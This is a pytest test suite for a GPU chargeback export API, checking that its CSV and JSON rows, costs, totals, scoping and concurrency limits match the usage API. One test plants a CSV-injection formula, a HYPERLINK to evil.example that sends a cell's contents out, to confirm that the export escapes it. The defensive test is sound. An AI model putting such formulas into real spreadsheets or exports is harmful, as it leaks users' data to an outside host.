"""The chargeback export: every row is the usage API's answer by model for its namespace and period, so
the CSV's totals equal the usage API's exactly; cost is raw GPU-hours x the model's price."""

from __future__ import annotations

import asyncio
import csv
import gc
import io
import secrets
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi import FastAPI
from sqlalchemy.engine import URL
from sqlalchemy.ext.asyncio import AsyncConnection

from tests.support.postgres import url_string
from tests.support.timekeeper import Api, Tokens, bearer, ok, sha256
from tests.timekeeper.member_usage import charge
from tests.timekeeper.test_scheduler_jobs import run
from timekeeper.app import current, expose
from timekeeper.billing.chargeback import COLUMNS, ChargebackRange, chargeback_range, escape_formula
from timekeeper.billing.router import CHARGEBACK_EXPORTS
from timekeeper.clock import ManualClock
from timekeeper.db.session import build_sessionmaker
from timekeeper.domain.clusters import namespace_key
from timekeeper.settings import Settings
from timekeeper.usage.service import UsageService

pytestmark = pytest.mark.asyncio(loop_scope="session")

MARCH = datetime(2026, 3, 1, tzinfo=UTC)
TEAM_B_READER = secrets.token_urlsafe(24)
WINDOW = {"since": "2026-02-01T00:00:00Z", "until": "2026-04-01T00:00:00Z"}
FIGURES = ("gpu_minutes", "raw_gpu_minutes", "mean_sm_util_pct")  # an export row's and a usage row's


def gpus(name: str | None, util: float) -> list[dict[str, Any]]:
    gpu: dict[str, Any] = {"uuid": "GPU-0", "sm_util_pct": util, "mem_used_bytes": 1, "mem_total_bytes": 2}
    return [gpu | ({"name": name} if name else {})]


@pytest.fixture
def settings(database_url: URL, tokens: Tokens) -> Settings:
    """The suite's settings, and a reader token scoped to team-b."""
    return Settings(
        database_url=url_string(database_url),
        scheduler_enabled=False,
        reader_tokens={sha256(TEAM_B_READER): ["team-b"]},
        chargeback_export_wait_seconds=0.5,
        chargeback_export_timeout_seconds=0.5,
        **tokens.settings(),
    )


@pytest.fixture
async def history(api: Api, clock: ManualClock) -> None:
    """Two months, two namespaces, three models (one priced, one weighted, one unknown), odd shares."""
    admin = bearer(api.tokens.admin)
    clock.set(MARCH - timedelta(days=30))
    ok(await api.client.put("/billing/weights/Tesla-T4", json={"weight": 0.5}, headers=admin))
    ok(
        await api.client.put(
            "/billing/prices/NVIDIA-H100-80GB-HBM3", json={"price_per_gpu_hour": 2.75}, headers=admin
        )
    )
    ok(await api.client.put("/billing/prices/Tesla-T4", json={"price_per_gpu_hour": 0.35}, headers=admin))
    reports = [
        ("team-a", "a1", MARCH - timedelta(days=3), 37, 1 / 3, "NVIDIA H100 80GB HBM3", 71.5),
        ("team-a", "a2", MARCH - timedelta(minutes=10), 25, 0.5, "Tesla T4", 12.25),  # across the month
        ("team-a", "a3", MARCH + timedelta(days=2), 13, 2, None, 40.0),
        ("team-b", "b1", MARCH + timedelta(days=5), 59, 0.125, "NVIDIA H100 80GB HBM3", 99.0),
    ]
    for namespace, pod, start, minutes, share, name, util in reports:
        clock.set(start + timedelta(minutes=minutes + 1))
        body = dict(pod=pod, pod_uid=f"uid-{pod}", start=start, minutes=minutes, gpu_share=share)
        ok(await api.report(namespace=namespace, **body, gpus=gpus(name, util)))
    clock.set(MARCH + timedelta(days=20))


async def export_csv(api: Api, token: str | None = None, **params: str) -> list[dict[str, str]]:
    response = await api.client.get(
        "/billing/chargeback",
        params={**WINDOW, **params},
        headers=bearer(token or api.tokens.admin) | {"Accept": "text/csv"},
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_the_csv_totals_equal_the_usage_apis_exactly(api: Api, history: None) -> None:
    rows = await export_csv(api)

    for namespace in ("team-a", "team-b"):
        for start, end in (
            ("2026-02-01T00:00:00Z", "2026-03-01T00:00:00Z"),
            ("2026-03-01T00:00:00Z", "2026-04-01T00:00:00Z"),
        ):
            usage = ok(
                await api.get(f"/namespaces/{namespace}/usage", group_by="model", since=start, until=end)
            )
            mine = [row for row in rows if row["namespace"] == namespace and row["period_start"] == start]
            assert [
                (row["gpu_model"], float(row["gpu_minutes"]), float(row["raw_gpu_minutes"])) for row in mine
            ] == [(row["key"], row["gpu_minutes"], row["raw_gpu_minutes"]) for row in usage["rows"]]
            assert sum((Decimal(row["gpu_minutes"]) for row in mine), Decimal(0)) == pytest.approx(
                Decimal(str(usage["total_gpu_minutes"])), abs=Decimal("1e-9")
            )


async def test_rows_carry_weighted_minutes_utilisation_and_cost_by_model(api: Api, history: None) -> None:
    rows = {
        (row["period_start"][:7], row["namespace"], row["gpu_model"]): row for row in await export_csv(api)
    }

    a2_february = rows[("2026-02", "team-a", "Tesla-T4")]
    assert (Decimal(a2_february["raw_gpu_minutes"]), Decimal(a2_february["gpu_minutes"])) == (
        Decimal(5),
        Decimal("2.5"),
    )
    assert Decimal(a2_february["cost"]) == (Decimal(5) / 60 * Decimal("0.35")).quantize(Decimal("0.000001"))
    h100 = rows[("2026-03", "team-b", "NVIDIA-H100-80GB-HBM3")]
    assert Decimal(h100["raw_gpu_minutes"]) == Decimal("7.375")
    assert Decimal(h100["cost"]) == (Decimal("7.375") / 60 * Decimal("2.75")).quantize(Decimal("0.000001"))
    assert float(h100["mean_sm_util_pct"]) == 99.0
    unknown = rows[("2026-03", "team-a", "unknown")]
    assert (unknown["price_per_gpu_hour"], unknown["cost"], unknown["currency"]) == ("", "", "USD")
    assert list(rows) == sorted(rows, key=lambda key: (key[0], key[1], key[2]))


async def test_json_and_csv_hold_the_same_rows(api: Api, history: None) -> None:
    as_csv = await export_csv(api, period="weekly")
    answer = ok(
        await api.client.get(
            "/billing/chargeback",
            params={**WINDOW, "period": "weekly", "format": "json"},
            headers=bearer(api.tokens.admin),
        )
    )

    assert answer["currency"] == "USD" and answer["since"] == WINDOW["since"]
    assert [
        (row["period_start"], row["namespace"], row["gpu_model"], row["gpu_minutes"])
        for row in answer["rows"]
    ] == [
        (row["period_start"], row["namespace"], row["gpu_model"], float(row["gpu_minutes"])) for row in as_csv
    ]
    # Weeks start on Monday: 1 March is a Sunday, so a2's use across the month is one week's.
    assert {row["period_start"] for row in answer["rows"]} == {"2026-02-23T00:00:00Z", "2026-03-02T00:00:00Z"}


async def test_an_export_runs_as_many_statements_for_59_days_as_for_2_months(
    api: Api, history: None, connection: AsyncConnection
) -> None:
    statements: list[str] = []

    def count(_conn: object, _cursor: object, statement: str, *_: object) -> None:
        statements.append(statement)

    sa.event.listen(connection.sync_connection, "before_cursor_execute", count)
    try:
        monthly = await export_csv(api, period="monthly")
        by_month = len(statements)
        daily = await export_csv(api, period="daily")
    finally:
        sa.event.remove(connection.sync_connection, "before_cursor_execute", count)

    # 2 periods x 2 namespaces, then 59 days x 2: the same statements either way.
    assert len({row["period_start"] for row in daily}) > len({row["period_start"] for row in monthly})
    assert len(statements) - by_month == by_month


def whole_window() -> ChargebackRange:
    return chargeback_range(
        "monthly", datetime.fromisoformat(WINDOW["since"]), datetime.fromisoformat(WINDOW["until"])
    )


async def test_one_export_more_than_the_turns_waits_then_is_refused_with_retry_after(
    api: Api, app: FastAPI, history: None
) -> None:
    exports = current(app)[CHARGEBACK_EXPORTS]
    held = await exports.rows(whole_window(), None, "USD")  # the one turn, its statement run already

    refused = await api.client.get("/billing/chargeback", params=WINDOW, headers=bearer(api.tokens.admin))
    async for _ in held:  # the export ends: its turn is free
        pass
    answered = await api.client.get("/billing/chargeback", params=WINDOW, headers=bearer(api.tokens.admin))

    assert (refused.status_code, refused.headers["retry-after"]) == (429, "1")
    assert "retry later" in refused.json()["detail"]
    assert answered.status_code == 200


async def test_a_second_export_waits_for_the_first_to_end(api: Api, app: FastAPI, history: None) -> None:
    exports = current(app)[CHARGEBACK_EXPORTS]
    first = await exports.rows(whole_window(), None, "USD")
    second = asyncio.create_task(exports.rows(whole_window(), None, "USD"))
    for _ in range(10):
        await asyncio.sleep(0)
    waited = not second.done()
    rows = [row async for row in first]

    assert waited
    assert [row async for row in await second] == rows


async def test_an_export_whose_answer_is_never_sent_gives_its_turn_back(app: FastAPI, history: None) -> None:
    """A client gone before the answer started: the export, dropped unread, ends and frees its turn."""
    exports = current(app)[CHARGEBACK_EXPORTS]
    dropped = await exports.rows(whole_window(), None, "USD")
    del dropped
    gc.collect()

    again = await exports.rows(whole_window(), None, "USD")  # within the wait, else 429

    assert [row["namespace"] async for row in again]


async def test_an_export_runs_on_a_connection_of_its_own_cut_off_at_its_timeout(
    api: Api, app: FastAPI, history: None, connection: AsyncConnection
) -> None:
    """The export pool's connection (not the requests'): read-only, statements and idle transactions cut
    off at the export's timeout. Held up by a lock here, its statement is cancelled: 503 before any row."""
    context = current(app)
    expose(app, replace(context, export_sessions=build_sessionmaker(context.export_engine)))
    async with context.export_engine.connect() as export_connection:
        shown = [
            (await export_connection.execute(sa.text(f"SHOW {name}"))).scalar_one()
            for name in (
                "statement_timeout",
                "idle_in_transaction_session_timeout",
                "default_transaction_read_only",
            )
        ]
    await connection.execute(sa.text("LOCK TABLE gpu_prices IN ACCESS EXCLUSIVE MODE"))

    cut_off = await api.client.get("/billing/chargeback", params=WINDOW, headers=bearer(api.tokens.admin))

    assert shown == ["500ms", "500ms", "on"]
    assert context.export_engine.pool.size() == 1
    assert cut_off.status_code == 503
    assert "TIMEKEEPER_CHARGEBACK_EXPORT_TIMEOUT_SECONDS" in cut_off.json()["detail"]


async def test_after_a_roll_up_daily_rows_equal_the_usage_apis_across_days_and_weight_changes(
    api: Api, app: FastAPI, clock: ManualClock
) -> None:
    """Rolled-up hours beside a raw row, a pod across midnight, a weight change inside a rolled-up hour,
    a range clipped inside hours: each day's rows are the usage API's answer by model for that day."""
    day, admin = datetime(2026, 3, 10, tzinfo=UTC), bearer(api.tokens.admin)
    clock.set(day - timedelta(hours=6))
    ok(await api.client.put("/billing/weights/Tesla-T4", json={"weight": 0.5}, headers=admin))
    change = {"weight": 2, "effective_from": (day + timedelta(hours=13, minutes=20)).isoformat()}
    ok(await api.client.put("/billing/weights/Tesla-T4", json=change, headers=admin))
    clock.set(day + timedelta(hours=14, minutes=10))
    reports = [  # pod, seq, start and end (hours after midnight), share, GPU
        ("c", 1, -0.5, 1 / 3, 0.125, "Tesla T4"),
        ("a", 1, 12 + 50 / 60, 13 + 10 / 60, 1, "Tesla T4"),
        ("a", 2, 13 + 10 / 60, 13 + 40 / 60, 1, "Tesla T4"),
        ("a", 3, 13 + 55 / 60, 14 + 5 / 60, 1, "Tesla T4"),  # ends after the roll-up's cutoff: stays raw
        ("b", 1, 12, 12.1204, 1 / 3, "NVIDIA H100 80GB HBM3"),
    ]
    for pod, seq, begins, ends, share, name in reports:
        body = dict(pod=pod, pod_uid=f"uid-{pod}", seq=seq, gpu_share=share, gpus=gpus(name, 40.0 + seq))
        ok(await api.report(**body, start=day + timedelta(hours=begins), end=day + timedelta(hours=ends)))
    clock.set(day + timedelta(days=7, hours=14, minutes=9))
    assert (await run(app, "rollup")).detail is not None
    window = {"since": "2026-03-09T23:40:00.5Z", "until": "2026-03-10T14:02:00Z"}

    answer = ok(
        await api.client.get(
            "/billing/chargeback", params={**window, "period": "daily", "format": "json"}, headers=admin
        )
    )

    expected = []
    for start, end in ((window["since"], "2026-03-10T00:00:00Z"), ("2026-03-10T00:00:00Z", window["until"])):
        usage = ok(await api.get("/namespaces/team-a/usage", group_by="model", since=start, until=end))
        expected += [(start[:10], row["key"], *(row[name] for name in FIGURES)) for row in usage["rows"]]
    exported = [
        (row["period_start"][:10], row["gpu_model"], *(row[name] for name in FIGURES))
        for row in answer["rows"]
    ]
    assert exported == expected
    assert [(day, model) for day, model, *_ in exported] == [
        ("2026-03-09", "Tesla-T4"),
        ("2026-03-10", "NVIDIA-H100-80GB-HBM3"),
        ("2026-03-10", "Tesla-T4"),
    ]


async def test_a_scoped_reader_exports_only_its_namespaces(api: Api, history: None) -> None:
    rows = await export_csv(api, token=TEAM_B_READER)

    assert {row["namespace"] for row in rows} == {"team-b"}


async def test_a_range_backwards_or_too_fine_is_refused(api: Api) -> None:
    admin = bearer(api.tokens.admin)
    backwards = await api.client.get(
        "/billing/chargeback",
        params={"since": "2026-03-02T00:00:00Z", "until": "2026-03-01T00:00:00Z"},
        headers=admin,
    )
    too_fine = await api.client.get(
        "/billing/chargeback",
        params={"since": "2020-01-01T00:00:00Z", "until": "2026-01-01T00:00:00Z", "period": "daily"},
        headers=admin,
    )

    assert (backwards.status_code, too_fine.status_code) == (422, 422)
    assert "at most 400" in too_fine.json()["detail"]


async def test_the_export_needs_a_reader(api: Api) -> None:
    assert (await api.client.get("/billing/chargeback")).status_code == 401


async def test_a_gpu_name_that_is_a_formula_is_escaped_in_csv_only(api: Api, clock: ManualClock) -> None:
    """OWASP's CSV injection rule: a tenant-written cell starting with =, +, -, @, tab or CR gets a quote."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    clock.set(MARCH + timedelta(days=3, minutes=11))
    body = dict(pod="f1", pod_uid="uid-f1", start=MARCH + timedelta(days=3), minutes=10, gpu_share=1)
    ok(await api.report(namespace="team-a", **body, gpus=gpus(formula, 50.0)))
    clock.set(MARCH + timedelta(days=20))

    rows = await export_csv(api)
    answer = ok(
        await api.client.get(
            "/billing/chargeback", params={**WINDOW, "format": "json"}, headers=bearer(api.tokens.admin)
        )
    )

    assert [row["gpu_model"] for row in rows] == ["'" + formula]
    assert [row["gpu_model"] for row in answer["rows"]] == [formula]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
async def test_each_formula_prefix_is_escaped(text: str) -> None:
    assert escape_formula(text) == "'" + text
    assert escape_formula("NVIDIA-H100") == "NVIDIA-H100"


# The fleet: team-x in the local cluster and in members a and b (docs/fleet.md).
H100, T4 = "NVIDIA-H100-80GB-HBM3", "Tesla-T4"
MONTHS = (
    ("2026-02-01T00:00:00Z", "2026-03-01T00:00:00Z"),
    ("2026-03-01T00:00:00Z", "2026-04-01T00:00:00Z"),
)


@pytest.fixture
async def fleet(api: Api, app: FastAPI, clock: ManualClock) -> None:
    """team-x's use in three clusters over two months: priced, weighted and unknown models, odd shares."""
    admin = bearer(api.tokens.admin)
    clock.set(MARCH - timedelta(days=30))
    ok(await api.client.put("/billing/weights/Tesla-T4", json={"weight": 0.5}, headers=admin))
    ok(await api.client.put(f"/billing/prices/{H100}", json={"price_per_gpu_hour": 2.75}, headers=admin))
    ok(await api.client.put("/billing/prices/Tesla-T4", json={"price_per_gpu_hour": 0.35}, headers=admin))
    reports = [
        (None, "x1", MARCH - timedelta(days=2), 41, 1 / 3, "NVIDIA H100 80GB HBM3"),
        ("a", "x1", MARCH - timedelta(minutes=7), 19, 0.5, "Tesla T4"),  # across the month
        ("a", "x2", MARCH + timedelta(days=4), 23, 0.25, "NVIDIA H100 80GB HBM3"),
        ("b", "x1", MARCH + timedelta(days=6), 17, 2, None),
        ("b", "x2", MARCH + timedelta(days=6, hours=1), 29, 1 / 7, "Tesla T4"),
    ]
    for cluster, pod, start, minutes, share, name in reports:
        clock.set(start + timedelta(minutes=minutes + 1))
        uid = f"uid-{cluster or 'local'}-{pod}"
        body = dict(
            pod=pod, pod_uid=uid, start=start, minutes=minutes, gpu_share=share, gpus=gpus(name, 50.0)
        )
        await charge(app, namespace_key(cluster, "team-x"), **body)
    clock.set(MARCH + timedelta(days=20))


async def export_json(api: Api, **params: str) -> dict[str, Any]:
    response = await api.client.get(
        "/billing/chargeback", params={**WINDOW, **params, "format": "json"}, headers=bearer(api.tokens.admin)
    )
    return dict(ok(response))


def sums(rows: list[dict[str, str]]) -> tuple[Decimal, Decimal, Decimal]:
    """The exact sums of CSV rows' raw and charged minutes and costs."""
    return (
        sum((Decimal(row["raw_gpu_minutes"]) for row in rows), Decimal(0)),
        sum((Decimal(row["gpu_minutes"]) for row in rows), Decimal(0)),
        sum((Decimal(row["cost"]) for row in rows if row["cost"]), Decimal(0)),
    )


async def test_rows_name_their_cluster_beside_the_bare_namespace(api: Api, fleet: None) -> None:
    rows = await export_csv(api)

    assert COLUMNS[-1] == "cluster"  # last: a single cluster's columns stay where they were
    assert [
        (row["period_start"][:7], row["cluster"], row["namespace"], row["gpu_model"]) for row in rows
    ] == [
        ("2026-02", "", "team-x", H100),
        ("2026-02", "a", "team-x", T4),
        ("2026-03", "a", "team-x", H100),
        ("2026-03", "a", "team-x", T4),
        ("2026-03", "b", "team-x", T4),
        ("2026-03", "b", "team-x", "unknown"),
    ]
    answer = await export_json(api)
    assert [(row["cluster"], row["namespace"]) for row in answer["rows"]] == [
        (row["cluster"], row["namespace"]) for row in rows
    ]


async def test_the_cluster_parameter_keeps_one_clusters_rows(api: Api, fleet: None) -> None:
    every = await export_csv(api)

    for cluster in ("", "a", "b"):  # empty: the local cluster
        assert await export_csv(api, cluster=cluster) == [row for row in every if row["cluster"] == cluster]
    assert await export_csv(api, cluster="gone") == []  # a former member's name: its rows, here none
    refused = await api.client.get(
        "/billing/chargeback", params={**WINDOW, "cluster": "a/b"}, headers=bearer(api.tokens.admin)
    )
    assert refused.status_code == 422


async def test_totals_by_cluster_and_in_all_are_the_rows_exact_sums_and_the_usage_apis(
    api: Api, app: FastAPI, fleet: None, settings: Settings, clock: ManualClock
) -> None:
    """Each row is rounded once (docs/billing.md); a cluster's total is the exact sum of its rows, all
    clusters' the sum of theirs, whether the export is asked for one cluster or all of them; and each
    namespace's rows per period sum to the usage answer's total for it, exactly."""
    rows, answer = await export_csv(api), await export_json(api)
    by_cluster = {entry.pop("cluster"): entry for entry in answer["totals"]["by_cluster"]}

    assert list(by_cluster) == ["", "a", "b"]
    for cluster, totals in by_cluster.items():
        raw, charged, cost = sums([row for row in rows if row["cluster"] == cluster])
        assert totals == {"raw_gpu_minutes": float(raw), "gpu_minutes": float(charged), "cost": float(cost)}
        alone = await export_json(api, cluster=cluster)
        assert [entry["cluster"] for entry in alone["totals"]["by_cluster"]] == [cluster]
        assert alone["totals"]["all"] == totals
    raw, charged, cost = sums(rows)
    assert answer["totals"]["all"] == {
        "raw_gpu_minutes": float(raw),
        "gpu_minutes": float(charged),
        "cost": float(cost),
    }
    assert charged == sum((sums([r for r in rows if r["cluster"] == c])[1] for c in by_cluster), Decimal(0))

    async with current(app).reads() as session:
        service = UsageService(session, settings, clock)
        for cluster in ("", "a", "b"):
            for start, end in MONTHS:
                since, until = datetime.fromisoformat(start), datetime.fromisoformat(end)
                usage = await service.usage(namespace_key(cluster or None, "team-x"), since, until, "model")
                mine = [row for row in rows if row["cluster"] == cluster and row["period_start"] == start]
                assert (usage.namespace, usage.cluster) == ("team-x", cluster or None)
                assert (usage.total_raw_gpu_minutes, usage.total_gpu_minutes) == sums(mine)[:2]
    local = ok(
        await api.get(
            "/namespaces/team-x/usage",
            group_by="model",
            **dict(zip(("since", "until"), MONTHS[0], strict=True)),
        )
    )
    assert (local["namespace"], local["cluster"]) == ("team-x", None)


async def test_a_single_clusters_export_carries_an_empty_cluster_and_its_totals(
    api: Api, history: None
) -> None:
    rows = await export_csv(api)
    answer = await export_json(api)

    assert {row["cluster"] for row in rows} == {""}
    assert [entry["cluster"] for entry in answer["totals"]["by_cluster"]] == [""]
    assert answer["totals"]["all"]["gpu_minutes"] == float(sums(rows)[1])
